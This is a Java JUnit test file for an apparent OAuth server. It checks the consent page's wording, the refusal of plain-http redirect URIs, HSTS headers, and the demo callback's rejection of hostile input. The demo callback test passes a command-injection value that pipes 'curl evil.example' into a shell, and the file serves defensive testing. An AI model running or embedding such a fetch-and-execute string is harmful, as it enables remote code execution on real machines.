package dev.shutter.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.shutter.server.support.Browser;
import dev.shutter.server.support.Forms;
import dev.shutter.server.support.Platform;
import dev.shutter.server.support.RawHttps;
import dev.shutter.server.support.TestServers;
import java.net.http.HttpResponse;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** What an outside probe found on the pages: the consent page's wording, the demo callback, HSTS. */
class HardenedPagesTest {

    @Test
    @DisplayName("the consent page names the user by username, not by id")
    void consentNamesTheUser() {
        // given
        Platform platform = Platform.shared();
        Platform.User user = platform.user("consenting");
        Platform.App app = platform.liveApp();

        // when
        HttpResponse<String> consent =
                Platform.logIn(Browser.onShared(), user, Platform.authorizeUrl(app, "code", "basic", "s"));

        // then
        assertThat(consent.body()).contains("<strong>" + user.username() + "</strong>");
        assertThat(consent.body()).doesNotContain("user " + user.id());
    }

    @Test
    @DisplayName("the operator API refuses a plain-http redirect URI to a host that is not loopback, saying why")
    void plainHttpRedirectRefused() {
        // given
        Platform platform = Platform.shared();
        ObjectNode body = Platform.JSON.createObjectNode().put("name", "Evil").put("mode", "live");
        body.putArray("redirect_uris").add("https://app.example/cb").add("http://evil.example/cb");

        // when
        HttpResponse<String> refused = platform.adminCall("POST", "/admin/apps", body);

        // then
        assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
        assertThat(refused.body()).contains("redirect_uris[1]", "must use https", "loopback");
    }

    @Test
    @DisplayName("the demo callback shows no shell command for a code outside a code's alphabet")
    void demoCallbackRefusesShellText() {
        // given
        RunningServer server = RunningServer.start(
                ServerOptions.forTests(TestServers.freshDataDir()).withDemo(true), TestServers.tuning());
        try {
            Browser browser = new Browser(server.baseUrl());

            // when
            HttpResponse<String> hostile =
                    browser.get("/demo/callback?code=" + Forms.enc("abc; curl evil.example|sh #"));
            HttpResponse<String> genuine = browser.get("/demo/callback?code=Ab-9_z");

            // then
            assertThat(hostile.statusCode()).isEqualTo(200);
            assertThat(hostile.body()).doesNotContain("evil.example", "curl -k -X POST");
            assertThat(hostile.body()).contains("not one this server makes");
            assertThat(genuine.body()).contains("--data-urlencode &#39;code=Ab-9_z&#39;");
        } finally {
            server.close();
        }
    }

    @Test
    @DisplayName("HTTPS answers carry Strict-Transport-Security for a year; the plain listener's do not")
    void strictTransportSecurity() {
        // given
        RunningServer server = TestServers.shared();

        // when
        RawHttps.Raw secure = RawHttps.get(server.httpsPort(), "/health");
        RawHttps.Raw plain = RawHttps.send(server.httpPort().get(), false, "GET /health HTTP/1.1", null, null);

        // then
        assertThat(secure.header("Strict-Transport-Security")).isEqualTo("max-age=31536000");
        assertThat(plain.hasHeader("Strict-Transport-Security")).isFalse();
    }
}
